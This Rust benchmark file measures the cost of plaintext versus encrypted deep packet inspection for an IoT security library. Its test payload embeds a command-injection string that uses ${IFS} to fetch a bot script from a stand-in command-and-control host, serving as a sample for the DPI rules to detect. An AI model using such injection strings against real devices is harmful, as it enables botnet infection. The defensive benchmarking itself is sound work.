//! E-M4 bench — plaintext vs encrypted DPI inspection cost per payload.
//! The rule-set × payload fast-path sweep lives in `exp_dpi`.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::sync::Arc;
use xlf_core::dpi::{default_rules, DpiSession, EncryptedDpi, PlaintextDpi};
use xlf_lwcrypto::searchable::Tokenizer;
use xlf_simnet::SimTime;

fn bench_dpi(c: &mut Criterion) {
    let payload = b"POST /telemetry temperature=71.2 humidity=40 wget${IFS}http://cnc.evil/bot.sh trailer bytes";
    let mut group = c.benchmark_group("dpi_inspection");
    group.sample_size(20);
    group.throughput(Throughput::Bytes(payload.len() as u64));

    let plain = PlaintextDpi::new(default_rules());
    group.bench_function("plaintext", |b| {
        b.iter(|| std::hint::black_box(plain.inspect(payload)));
    });

    let endpoint = Tokenizer::new(b"bench session").expect("tokenizer");
    let mut enc = EncryptedDpi::new(Arc::new(DpiSession::bind(
        &default_rules(),
        endpoint.clone(),
    )));
    let mut firsts = Vec::new();
    group.bench_function("encrypted_tokenize_and_match", |b| {
        b.iter(|| {
            let tokens = endpoint.tokenize(payload);
            std::hint::black_box(enc.inspect("dev", &tokens, &mut firsts, SimTime::ZERO))
        });
    });
    let tokens = endpoint.tokenize(payload);
    group.bench_function("encrypted_match_only", |b| {
        b.iter(|| std::hint::black_box(enc.inspect("dev", &tokens, &mut firsts, SimTime::ZERO)));
    });
    group.finish();
}

criterion_group!(benches, bench_dpi);
criterion_main!(benches);
